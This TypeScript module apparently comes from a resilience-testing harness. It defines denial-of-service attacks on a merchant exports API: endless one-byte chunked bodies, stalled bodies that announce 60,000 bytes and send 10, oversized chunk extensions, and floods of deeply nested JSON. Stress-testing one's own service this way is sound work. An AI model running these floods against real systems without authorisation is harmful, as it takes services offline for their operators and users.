/** Attacks with bodies of requests that should have a small one, or none. */
import { untilOver } from '../tools/connections.ts';
import { hammer } from '../tools/flood.ts';
import { bearer, request, type Headers } from '../tools/requests.ts';
import { attackerAddress, type Attack, type Scene } from '../tools/scene.ts';

const CHUNKED: Headers = { 'Transfer-Encoding': 'chunked' };
/** Just under the 64 KiB that a create's body may have. */
const CHUNKS = 65_000;

function create({ target: { attacker } }: Scene, headers: Headers, body = ''): string {
  return request('POST', `/v3/merchants/${attacker.merchant}/exports`, headers, body);
}

function token({ target: { attacker } }: Scene): Headers {
  return bearer(attacker.token);
}

/** Sends a head on each connection, then a piece of body again and again; the body never ends. */
async function endless(
  scene: Scene,
  connections: number,
  head: string,
  piece: string,
  times: number,
): Promise<void> {
  const perBatch = Math.max(1, Math.floor(32_768 / (piece.length || 1)));
  const batch = piece.repeat(perBatch);
  const each = async (n: number): Promise<void> => {
    const socket = await scene.connections.open(attackerAddress(n % 8));
    if (!socket || !(await scene.connections.write(socket, head))) return;
    for (let sent = 0; sent < times; sent += perBatch)
      if (!(await scene.connections.write(socket, batch))) return;
  };
  await Promise.all(Array.from({ length: connections }, (_, n) => each(n)));
  await untilOver(scene.signal);
}

export const bodies: readonly Attack[] = [
  {
    name: 'tiny-chunks',
    about:
      '47 MB: creates without a token whose bodies come in chunks of one byte, 120 connections',
    inShort: true,
    run: (scene) => endless(scene, 120, create(scene, CHUNKED), '1\r\nx\r\n', CHUNKS),
  },
  {
    name: 'tiny-chunks-token',
    about: 'the same with a token',
    inShort: true,
    run: (scene) =>
      endless(scene, 120, create(scene, { ...token(scene), ...CHUNKED }), '1\r\nx\r\n', CHUNKS),
  },
  {
    name: 'stalled-bodies',
    about: '400 creates that announce 60,000 bytes and send 10',
    inShort: true,
    run: (scene) =>
      endless(
        scene,
        400,
        create(scene, { ...token(scene), 'Content-Length': '60000' }, '{"type":"O'),
        '',
        0,
      ),
  },
  {
    name: 'chunk-extensions',
    about: 'chunks of one byte with 4 kB of extensions, 40 connections',
    inShort: false,
    run: (scene) =>
      endless(
        scene,
        40,
        create(scene, { ...token(scene), ...CHUNKED }),
        `1;${'e'.repeat(4_000)}\r\nx\r\n`,
        1_000,
      ),
  },
  {
    name: 'endless-bodies',
    about:
      'bodies without end where none is wanted: a poll, a path that does not exist, 20 connections',
    inShort: false,
    run: async (scene) => {
      const { merchant, exportId } = scene.target.attacker;
      const piece = `4000\r\n${'x'.repeat(0x4000)}\r\n`;
      const poll = request('GET', `/v3/merchants/${merchant}/exports/${exportId}`, {
        ...token(scene),
        ...CHUNKED,
      });
      await Promise.all([
        endless(scene, 10, poll, piece, 2_000),
        endless(scene, 10, request('POST', '/nothing', CHUNKED), piece, 2_000),
      ]);
    },
  },
  {
    name: 'deep-creates',
    about: 'creates of 64 kB of nested arrays, 300 a second on 30 connections',
    inShort: false,
    run: (scene) => {
      const body = '['.repeat(32_000) + ']'.repeat(32_000);
      const text = create(scene, { ...token(scene), 'Content-Length': String(body.length) }, body);
      return hammer(scene, () => text, { connections: 30, perSecond: 300 });
    },
  },
];
